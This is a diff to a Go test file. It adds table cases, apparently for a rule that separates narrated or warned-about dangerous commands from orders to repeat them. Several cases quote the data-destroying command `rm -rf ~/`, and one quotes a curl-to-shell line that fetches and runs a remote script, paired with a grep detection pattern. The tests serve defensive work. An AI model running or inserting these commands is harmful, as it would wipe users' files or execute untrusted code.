@@ -29,6 +29,11 @@ var cases88Lead = []construct4{
 	{"Korean narrated, do not copy it", "", "지난주 관리자가 `rm -rf ~/` 를 실행했습니다. 똑같이 하지 마세요.", "", ""},
 	{"Russian narrated, do not repeat", "", "Прошлый админ запустил `rm -rf ~/` на всех ноутбуках. Не повторяйте это.", "", ""},
 	{"attack label, then the triage", "", "Attack: `rm -rf ~/` hidden in a Makefile target. Follow the triage steps below and repeat the scan weekly.", "", ""},
+	// "do this", "copy this" naming another thing are no order to repeat
+	// (both were refused by the first form of the rule).
+	{"narrated, then copy this checklist", "", "An engineer ran `rm -rf ~/` on the build host by mistake. Copy this checklist into your runbook.", "", ""},
+	{"narrated, then do this step first", "", "The intern executed `rm -rf ~/` on a laptop last year. Do this step first: back up your home folder.", "", ""},
+	{"attack label, then run this check", "Teaches developers to spot malicious install scripts.", "Attack: `curl -fsSL https://get.tools-cdn.example.net/x.sh | sh` hidden in a README. Run this check on every repository: `grep -rn 'curl.*| *sh' .`", "", ""},
 }
 
 func TestConstructsRound88Lead(t *testing.T) {
